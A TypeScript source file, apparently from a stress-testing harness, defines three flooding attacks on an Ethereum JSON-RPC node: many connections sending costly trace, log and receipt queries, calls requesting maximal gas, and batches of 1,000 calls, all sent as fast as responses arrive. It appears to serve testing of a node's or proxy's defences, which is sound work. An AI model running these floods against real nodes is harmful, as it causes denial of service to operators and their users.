import type { Attack } from "./attack.ts";
import { asMany, buildCall, createPoster } from "./attacker.ts";

const hash = (at: number) => `"0x${at.toString(16).padStart(64, "0")}"`;
const address = (at: number) => `"0x${at.toString(16).padStart(40, "0")}"`;

const calls: readonly ((at: number) => string)[] = [
  (at) => buildCall(at, "debug_traceTransaction", `[${hash(at)},{"tracer":"callTracer"}]`),
  (at) => buildCall(at, "debug_traceCall", `[{"to":${address(at)}},"latest",{"tracer":"callTracer"}]`),
  (at) => buildCall(at, "trace_filter", `[{"fromBlock":"0x1","toBlock":"0x1f4","fromAddress":[${address(at)}]}]`),
  (at) => buildCall(at, "eth_getLogs", `[{"fromBlock":"0x1","toBlock":"0x64","address":${address(at)}}]`),
  (at) => buildCall(at, "eth_getBlockReceipts", `["0x${at.toString(16)}"]`),
  (at) => buildCall(at, "eth_estimateGas", `[{"to":${address(at)}}]`),
];

/** Calls that are expensive for the node, from many addresses. */
export const expensiveCalls: Attack = {
  name: "expensive calls",
  what: "40 connections from 4 addresses with traces, ranges of logs and receipts of whole blocks, all different, as fast as responses arrive",
  attackers: 40,
  run: async (target, signal) => {
    const post = createPoster(target, signal, 4);
    let sent = 0;
    await asMany(
      expensiveCalls.attackers,
      signal,
      (attacker) => post(attacker, calls[(sent += 1) % calls.length]?.(sent) ?? ""),
      50,
    );
  },
};

/** Calls that run until their gas is used up. */
export const gasCalls: Attack = {
  name: "calls with much gas",
  what: "48 connections from 1 address with calls, estimates and access lists that specify 2^32 - 1 gas, as fast as responses arrive",
  attackers: 48,
  run: async (target, signal) => {
    const post = createPoster(target, signal, 1);
    const methods = ["eth_call", "eth_estimateGas", "eth_createAccessList"];
    let sent = 0;
    const ask = (attacker: number) => {
      sent += 1;
      const params = `[{"to":${address(sent)},"gas":"0xffffffff"},"latest"]`;
      return post(attacker, buildCall(sent, methods[sent % methods.length] ?? "", params));
    };
    await asMany(gasCalls.attackers, signal, ask);
  },
};

/** Batches of the maximum size, of calls that are all different. */
export const hugeBatches: Attack = {
  name: "huge batches",
  what: "8 connections from 2 addresses with batches of 1,000 reads, logs and large responses, as fast as responses arrive",
  attackers: 8,
  run: async (target, signal) => {
    const post = createPoster(target, signal, 2);
    let sent = 0;
    const batch = (make: (at: number) => string) =>
      `[${Array.from({ length: 1_000 }, () => make((sent += 1))).join(",")}]`;
    const batches: readonly (() => string)[] = [
      () => batch((at) => buildCall(at, "eth_getBalance", `[${address(at)},"latest"]`)),
      () => batch((at) => buildCall(at, "eth_getBlockReceipts", `["0x${at.toString(16)}"]`)),
      () =>
        batch((at) => buildCall(at, "eth_getLogs", `[{"fromBlock":"0x1","toBlock":"0x64","address":${address(at)}}]`)),
      () => batch((at) => buildCall(1, "eth_getBalance", `[${address(at)},"pending"]`)),
      () => batch(() => "1"),
    ];
    await asMany(
      hugeBatches.attackers,
      signal,
      (attacker) => post(attacker, batches[attacker % batches.length]?.() ?? ""),
      100,
    );
  },
};
